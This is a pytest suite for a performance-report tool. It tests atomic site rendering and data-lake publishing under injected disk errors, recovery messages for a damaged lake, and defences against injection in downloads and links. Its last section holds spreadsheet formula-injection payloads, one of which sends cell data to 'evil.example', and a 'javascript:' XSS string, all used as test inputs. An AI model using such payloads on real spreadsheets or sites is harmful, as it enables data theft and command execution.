"""Issue 18, writes: a site and a lake are written whole or not at all, a damaged lake is explained (the file and
the way back), OS errors are one clear message, and site downloads and links cannot be turned into attacks.

Faults are injected in-process (a write that raises ENOSPC half-way, a read-only file system) into the real
render and publish of the example campaign; damage is done to a real lake published from it.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import copy_example, read_download, run_cli

from perfreport.lake.writer import publish_to_lake
from perfreport.site.page_model import Column, Table

CAMPAIGN = "h200-decoder-layer"


def tree(root: Path) -> dict[str, str]:
    """Every file under root (relative path -> SHA-256 of its bytes); a missing root is empty."""
    if not root.exists():
        return {}
    if root.is_file():
        return {".": hashlib.sha256(root.read_bytes()).hexdigest()}
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def no_traceback(output: str) -> None:
    assert "Traceback" not in output and 'File "' not in output, output


def fail_nth(monkeypatch: pytest.MonkeyPatch, owner: Any, name: str, match: Callable[..., bool], n: int,
             err: int = errno.ENOSPC, partial: Callable[..., None] | None = None, at: int = -1) -> None:
    """Make the n-th call of owner.name whose arguments `match` raise OSError(err) on its argument `at` (after
    writing `partial`), as the kernel would."""
    real = getattr(owner, name)
    seen = {"n": 0}

    def fake(*args: Any, **kwargs: Any) -> Any:
        if match(*args):
            seen["n"] += 1
            if seen["n"] == n:
                if partial is not None:
                    partial(*args)
                raise OSError(err, os.strerror(err), str(args[at]))
        return real(*args, **kwargs)

    monkeypatch.setattr(owner, name, fake)


# --- the site: rendered into a staging folder, swapped in whole ---------------------------------------------------


@pytest.fixture()
def rendered(example_campaign: Path, tmp_path: Path) -> tuple[Path, Path]:
    """A campaign copy (description changed, so a new render differs from the old) and a site rendered from it
    before the change."""
    camp = tmp_path / CAMPAIGN
    shutil.copytree(example_campaign, camp)
    site = tmp_path / "site"
    run_cli("report_render", "--campaign", str(camp), "--out", str(site), ok=True)
    config = camp / "config.yaml"
    doc = yaml.safe_load(config.read_text())
    doc["cells"][0]["description"] = "re-rendered: every page of this render says so"
    config.write_text(yaml.safe_dump(doc, sort_keys=False))
    return camp, site


@pytest.mark.parametrize("nth", [1, 9, 30])
def test_render_on_a_full_disk_leaves_the_old_site_whole(rendered: tuple[Path, Path], nth: int,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    import perfreport.site.render as render

    camp, site = rendered
    before = tree(site)

    def half(path: Path, data: bytes) -> None:
        path.write_bytes(data[: len(data) // 2])  # the disk filled up half-way through this page

    fail_nth(monkeypatch, render, "_write_plain", lambda path, text: True, nth, partial=half, at=0)
    run = run_cli("report_render", "--campaign", str(camp), "--out", str(site), ok=False)
    assert run.exit_code == 2
    assert "No space left on device (ENOSPC)" in run.output and str(site) in run.output
    assert "free space there" in run.output
    no_traceback(run.output)
    assert tree(site) == before  # entirely the old site: no new page, no half page, no staging folder
    monkeypatch.undo()
    run_cli("report_render", "--campaign", str(camp), "--out", str(site), ok=True)
    assert "re-rendered" in (site / CAMPAIGN / "01-summary.html").read_text()


@pytest.mark.parametrize("target", ["index.html", CAMPAIGN])
def test_render_failing_while_swapping_in_puts_the_old_site_back(rendered: tuple[Path, Path], target: str,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    import perfreport.site.staging as staging

    camp, site = rendered
    before = tree(site)
    owner, name = (staging.os, "replace") if target == "index.html" else (Path, "rename")
    fail_nth(monkeypatch, owner, name, lambda src, dst: Path(dst) == site / target, 1, err=errno.EIO)
    run = run_cli("report_render", "--campaign", str(camp), "--out", str(site), ok=False)
    assert run.exit_code == 2 and "(EIO)" in run.output and target in run.output
    no_traceback(run.output)
    assert tree(site) == before
    assert sorted(p.name for p in site.iterdir()) == ["h200-decoder-layer", "index.html", "static"]


def test_render_into_a_read_only_folder_is_one_clear_error(rendered: tuple[Path, Path],
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    camp, site = rendered
    before = tree(site)
    if os.geteuid() == 0:  # root writes through chmod: make the file system refuse instead
        import perfreport.site.staging as staging

        def read_only(prefix: str, dir: Path) -> str:
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(dir))

        monkeypatch.setattr(staging.tempfile, "mkdtemp", read_only)
        want = "Read-only file system (EROFS)"
    else:
        site.chmod(0o555)
        want = "Permission denied (EACCES)"
    try:
        run = run_cli("report_render", "--campaign", str(camp), "--out", str(site), ok=False)
    finally:
        site.chmod(0o755)
    assert run.exit_code == 2 and want in run.output and str(site) in run.output, run.output
    assert "write elsewhere (--out, --lake)" in run.output or "fix the permissions" in run.output
    no_traceback(run.output)
    assert tree(site) == before


def test_render_with_out_a_file_names_it(example_campaign: Path, tmp_path: Path) -> None:
    out = tmp_path / "site.html"
    out.write_text("not a folder\n")
    run = run_cli("report_render", "--campaign", str(example_campaign), "--out", str(out), ok=False)
    assert run.exit_code == 2 and f"{str(out)!r} is a file" in run.output and "the site root (--out)" in run.output
    no_traceback(run.output)
    assert out.read_text() == "not a folder\n"
    # A file where the campaign's folder goes is named the same way.
    site = tmp_path / "site"
    site.mkdir()
    (site / CAMPAIGN).write_text("x")
    run = run_cli("report_render", "--campaign", str(example_campaign), "--out", str(site), ok=False)
    assert run.exit_code == 2 and "this campaign's site folder" in run.output and CAMPAIGN in run.output
    no_traceback(run.output)
    assert tree(site) == {CAMPAIGN: hashlib.sha256(b"x").hexdigest()}


def test_rerender_keeps_foreign_files_drops_stale_ones_and_clears_a_killed_render(
        rendered: tuple[Path, Path]) -> None:
    camp, site = rendered
    folder = site / CAMPAIGN
    (folder / "notes.txt").write_text("mine\n")  # not written by any render: kept
    (folder / "extra").mkdir()
    (folder / "extra" / "a.txt").write_text("a\n")
    manifest = json.loads((folder / "site.json").read_text())
    (folder / "cell-gone.html").write_text("old page")  # listed by the previous render, not written now: dropped
    manifest["files"].append("cell-gone.html")
    (folder / "site.json").write_text(json.dumps(manifest))
    killed = site / ".render-h200-decoder-layer-dead"  # a render killed mid-way left its staging folder
    (killed / CAMPAIGN).mkdir(parents=True)
    (killed / CAMPAIGN / "site.json").write_text(json.dumps({"campaign": "ghost"}))
    run_cli("report_render", "--campaign", str(camp), "--out", str(site), ok=True)
    assert (folder / "notes.txt").read_text() == "mine\n" and (folder / "extra" / "a.txt").read_text() == "a\n"
    assert not (folder / "cell-gone.html").exists() and not killed.exists()
    assert sorted(p.name for p in site.iterdir()) == ["h200-decoder-layer", "index.html", "static"]
    assert "ghost" not in (site / "index.html").read_text()


# --- the lake: a publish that fails deletes what it wrote -----------------------------------------------------------


@pytest.fixture(scope="module")
def lake_source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example campaign, imported once for this module's lakes."""
    return copy_example(tmp_path_factory.mktemp("lake-src") / CAMPAIGN)


@pytest.fixture(scope="module")
def lake_source_changed(lake_source: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same campaign with one context value changed (cache: cold): a publish of it writes new rows (an
    identical re-publish writes nothing)."""
    camp = tmp_path_factory.mktemp("lake-src-changed") / CAMPAIGN
    shutil.copytree(lake_source, camp)
    config = camp / "config.yaml"
    config.write_text(config.read_text().replace("cache: warm", "cache: cold"))
    return camp


def history(lake: Path) -> dict[str, str]:
    return {t: run_cli("lake", "history", "--lake", str(lake), "--table", t, ok=True).output
            for t in ("kernels", "captures", "cells", "publications")}


def _is(suffix: str) -> Callable[..., bool]:
    return lambda io, location: location.endswith(suffix)


def _partial(io: Any, location: str) -> None:
    Path(location.removeprefix("file://")).write_bytes(b"PAR1 cut short")


@pytest.mark.parametrize(("suffix", "nth"), [(".parquet", 2), (".avro", 3), (".metadata.json", 2)],
                         ids=["second-data-file", "third-manifest", "second-metadata"])
def test_publish_failing_mid_write_leaves_the_lake_as_it_was(lake_source: Path, lake_source_changed: Path,
                                                            tmp_path: Path, suffix: str, nth: int,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    from pyiceberg.io.pyarrow import PyArrowFileIO

    lake = tmp_path / "lake"
    publish_to_lake(lake_source, lake=lake, who="tester")
    before, logged = tree(lake), history(lake)
    fail_nth(monkeypatch, PyArrowFileIO, "new_output", _is(suffix), nth, partial=_partial)
    run = run_cli("publish_to_lake", "--campaign", str(lake_source_changed), "--lake", str(lake), ok=False)
    assert run.exit_code == 2 and "No space left on device (ENOSPC)" in run.output
    assert str(lake / "warehouse" / "perfreport") in run.output and suffix in run.output
    no_traceback(run.output)
    assert tree(lake) == before  # the same files, the same bytes: nothing this publish wrote is left
    monkeypatch.undo()
    assert history(lake) == logged
    run_cli("publish_to_lake", "--campaign", str(lake_source_changed), "--lake", str(lake), ok=True)


# --- a damaged lake: one message naming the file and the way back --------------------------------------------------


@pytest.fixture(scope="module")
def pristine(lake_source: Path, lake_source_changed: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A lake holding the example campaign published twice, changed in between (two commits per table: an older
    one to go back to); the damaged-lake verbs publish lake_source again, which writes (it differs from the last)."""
    lake = tmp_path_factory.mktemp("pristine") / "lake"
    publish_to_lake(lake_source, lake=lake, who="tester")
    publish_to_lake(lake_source_changed, lake=lake, who="tester")
    return lake


@pytest.fixture()
def lake(pristine: Path, tmp_path: Path) -> Path:
    """A private copy of the pristine lake, relocated to its new place."""
    copy = tmp_path / "lake"
    shutil.copytree(pristine, copy)
    run_cli("lake", "relocate", "--lake", str(copy), ok=True)
    return copy


def verbs(lake: Path, campaign: Path) -> dict[str, list[str]]:
    return {"history": ["lake", "history", "--lake", str(lake)],
            "query": ["lake", "query", "--lake", str(lake), "SELECT count(*) AS n FROM kernels"],
            "compare": ["lake", "compare", "--lake", str(lake), "--metric", "sol_pct"],
            "publish": ["publish_to_lake", "--campaign", str(campaign), "--lake", str(lake)],
            "relocate": ["lake", "relocate", "--lake", str(lake)]}


def _newest(folder: Path, pattern: str) -> Path:
    return max(folder.glob(pattern), key=lambda p: p.stat().st_mtime_ns)


def _cut(path: Path, keep: int) -> Path:
    path.write_bytes(path.read_bytes()[:keep])
    return path


KERNELS = Path("warehouse/perfreport/kernels")
DAMAGE: dict[str, Callable[[Path], Path]] = {
    "truncated-metadata": lambda lake: _cut(_newest(lake / KERNELS / "metadata", "*.metadata.json"), 300),
    "missing-parquet": lambda lake: (lambda p: (p.unlink(), p)[1])(_newest(lake / KERNELS / "data", "*/*.parquet")),
    "cut-parquet": lambda lake: _cut(_newest(lake / KERNELS / "data", "*/*.parquet"), 1000),
    "cut-manifest-list": lambda lake: _cut(_newest(lake / KERNELS / "metadata", "snap-*.avro"), 200),
    "garbage-catalog": lambda lake: (lake / "catalog.db", (lake / "catalog.db").write_bytes(os.urandom(4096)))[0],
    "emptied-catalog": lambda lake: (lake / "catalog.db", (lake / "catalog.db").write_bytes(b""))[0],
}
# What each damage breaks (exit 2) and what still works (the way back): history reads no data file.
BROKEN = {"truncated-metadata": {"history", "query", "compare", "publish"},
          "missing-parquet": {"query", "compare", "publish"}, "cut-parquet": {"query", "compare", "publish"},
          "cut-manifest-list": {"query", "compare", "publish"},
          "garbage-catalog": set(verbs(Path(), Path())), "emptied-catalog": set(verbs(Path(), Path()))}
WAY_BACK = {"truncated-metadata": "previous metadata file", "missing-parquet": "--snapshot",
            "cut-parquet": "--snapshot", "cut-manifest-list": "--snapshot",
            "garbage-catalog": "restore catalog.db from a backup",
            "emptied-catalog": "restore catalog.db from a backup"}


@pytest.mark.parametrize("damage", sorted(DAMAGE))
def test_damaged_lake_every_verb_names_the_file_and_the_way_back(lake: Path, lake_source: Path,
                                                                 damage: str) -> None:
    damaged = DAMAGE[damage](lake)
    before = tree(lake)
    for verb, args in verbs(lake, lake_source).items():
        run = run_cli(*args)
        no_traceback(run.output)
        assert tree(lake) == before, verb  # no verb writes into a damaged lake
        if verb not in BROKEN[damage]:
            assert run.exit_code == 0, (verb, run.output)
            continue
        assert run.exit_code == 2, (verb, run.output)
        assert str(damaged) in run.output, (verb, run.output)
        assert WAY_BACK[damage] in run.output, (verb, run.output)
        assert "lake history" in run.output, (verb, run.output)
    if damage in {"missing-parquet", "cut-parquet", "cut-manifest-list"}:  # the snapshot named is readable
        run = run_cli(*verbs(lake, lake_source)["query"], ok=False)
        snapshot = re.search(r"--snapshot (\d+)", run.output)
        assert snapshot is not None
        back = run_cli("lake", "query", "--lake", str(lake), "--snapshot", snapshot.group(1), "--format", "json",
                       "SELECT count(*) AS n FROM kernels", ok=True)
        assert json.loads(back.stdout) == [{"n": 42}]  # the example: 42 kernel rows in 3 cells


def test_lake_path_that_is_a_file_every_verb(lake_source: Path, tmp_path: Path) -> None:
    lake = tmp_path / "lake"
    lake.write_text("not a lake\n")
    for verb, args in verbs(lake, lake_source).items():
        run = run_cli(*args, ok=False)
        assert run.exit_code == 2 and f"lake {str(lake)!r}: is a file, not a lake folder" in run.output, verb
        no_traceback(run.output)
    assert lake.read_text() == "not a lake\n"


def test_relocating_a_damaged_copy_names_the_file_and_switches_nothing(pristine: Path, tmp_path: Path) -> None:
    copy = tmp_path / "moved"
    shutil.copytree(pristine, copy)
    cut = _cut(_newest(copy / KERNELS / "data", "*/*.parquet"), 1000)
    before = (copy / "catalog.db").read_bytes()
    run = run_cli("lake", "relocate", "--lake", str(copy), ok=False)
    assert run.exit_code == 2 and str(cut) in run.output and "(cut or overwritten)" in run.output
    assert "Nothing was switched" in run.output and "run `lake relocate` again" in run.output
    no_traceback(run.output)
    assert (copy / "catalog.db").read_bytes() == before


# --- spreadsheet formulas and scheme links ------------------------------------------------------------------------


def test_csv_downloads_hold_no_live_formula_and_numbers_stay_numbers() -> None:
    texts = ['=HYPERLINK("http://x","click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
             "-3", "+4.5e-3", "plain", "a=b"]
    table = Table("t", "T", [Column("v", "v")], [{"v": t} for t in texts] + [{"v": -1.5}, {"v": -7}, {"v": None}])
    got = [row[0] for row in csv.reader(io.StringIO(table.csv_text(), newline=""))][1:]
    assert got == ["'" + t for t in texts[:5]] + ["'\nx", "-3", "+4.5e-3", "plain", "a=b", "-1.5", "-7", ""]


def test_a_formula_in_a_campaign_reaches_the_csv_as_text(example_campaign: Path, tmp_path: Path) -> None:
    camp = tmp_path / CAMPAIGN
    shutil.copytree(example_campaign, camp)
    config = camp / "config.yaml"
    doc = yaml.safe_load(config.read_text())
    doc["cells"][0]["description"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    config.write_text(yaml.safe_dump(doc, sort_keys=False))
    site = tmp_path / "site"
    run_cli("report_render", "--campaign", str(camp), "--out", str(site), ok=True)
    cells = [c for path in (site / CAMPAIGN).glob("*.csv.gz")
             for row in csv.reader(io.StringIO(read_download(path), newline="")) for c in row]
    assert "'" + doc["cells"][0]["description"] in cells
    assert not any(c.startswith(("=", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith(("+", "-")) and not re.fullmatch(r"[-+][\d.eE+-]+", c) for c in cells)


def test_index_links_stay_relative_whatever_the_folder_name(example_campaign: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    run_cli("report_render", "--campaign", str(example_campaign), "--out", str(site), ok=True)
    evil = "javascript:alert(document.domain)"
    shutil.copytree(site / CAMPAIGN, site / evil)
    run_cli("report_render", "--campaign", str(example_campaign), "--out", str(site), ok=True)
    html = (site / "index.html").read_text()
    hrefs = re.findall(r'<a [^>]*href="([^"]*)"', html)
    assert "javascript%3Aalert%28document.domain%29/01-summary.html" in hrefs
    assert f"{CAMPAIGN}/01-summary.html" in hrefs
    assert not any(re.match(r"^[A-Za-z][A-Za-z0-9+.-]*:", h) for h in hrefs if h != "data:,"), hrefs
    assert (site / "javascript%3Aalert%28document.domain%29").exists() is False  # the link is encoded, not the folder


# --- OS errors in any writing verb: one message --------------------------------------------------------------------


def test_os_errors_of_any_verb_are_one_message(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    run = run_cli("campaign", "init", str(blocker / "camp"), ok=False)
    assert run.exit_code == 2 and "Not a directory (ENOTDIR)" in run.output and str(blocker / "camp") in run.output
    no_traceback(run.output)
    import perfreport.files as files

    fail_nth(monkeypatch, files.os, "fdopen", lambda *a: True, 1, err=errno.ENOSPC, at=0)
    run = run_cli("campaign", "init", str(tmp_path / "camp"), ok=False)
    assert run.exit_code == 2 and "No space left on device (ENOSPC)" in run.output
    no_traceback(run.output)
    assert not (tmp_path / "camp" / "config.yaml").exists()
    assert not [p for p in (tmp_path / "camp").glob(".*.tmp")]  # the temp file went with the failure
